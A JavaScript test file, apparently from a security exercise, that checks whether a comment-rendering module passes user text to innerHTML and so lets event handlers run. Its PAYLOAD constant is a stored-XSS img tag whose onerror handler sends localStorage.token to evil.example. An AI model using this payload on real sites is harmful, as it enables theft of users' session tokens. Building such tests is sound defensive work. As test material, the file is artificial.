// A comment that is an image with a handler (steps 1 to 3).
//
// samples: bad 1, good 1
'use strict';

const { attack, loadModule, quoted, run, use } = require('attack');

const PAYLOAD = quoted(`<img src=x onerror="fetch('https://evil.example/'+localStorage.token)">`);
const TAG = /<(\/?)(\w+)((?:\s+[\w-]+(?:=(?:"[^"]*"|[^\s>]*))?)*)\s*>/g;

/** Stands in for an element: text is text, and what is given to `innerHTML` is parsed for tags and their handlers. */
class Element {
  constructor() {
    this.parts = [];
  }

  append(...parts) {
    this.parts.push(...parts);
  }

  set textContent(text) {
    this.parts = [String(text)];
  }

  set innerHTML(text) {
    this.markup = text;
    this.parts = [text.replace(TAG, '')];
  }

  /** What a reader sees. */
  get text() {
    return this.parts.map((part) => (part instanceof Element ? part.text : part)).join('');
  }

  /** The handlers that a browser would run. Scripts are not among them, as it runs none that comes by `innerHTML`. */
  get handlers() {
    const inner = this.parts.flatMap((part) => (part instanceof Element ? part.handlers : []));
    const own = [...(this.markup ?? '').matchAll(TAG)].flatMap(([, , , attributes]) => attributes.match(/\son\w+="[^"]*"/g) ?? []);
    return [...inner, ...own];
  }
}

run(async () => {
  let comments;
  const fetch = async () => ({ json: async () => comments });
  const document = { createElement: () => new Element() };
  const { showComments } = await loadModule({ fetch, document });

  /** The list with these comments. */
  async function show(...given) {
    comments = given;
    const list = new Element();
    await showComments(list);
    return list;
  }

  use((await show({ author: 'Anna', text: 'Nice.' }, { author: "O'Brien", text: '2 * 3 = 6' })).text);
  const list = await show({ author: 'Eve', text: PAYLOAD });
  attack(list.handlers.length === 1, [list.handlers, list.text]);
});
